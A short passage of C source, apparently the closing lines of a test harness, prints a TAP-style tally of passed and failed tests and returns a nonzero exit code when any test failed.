	if (tap) {
		printf("# passed %d failed %d\n", tapn - tapfail, tapfail);
		return tapfail ? 1 : 0;
	}
	return 0;
}
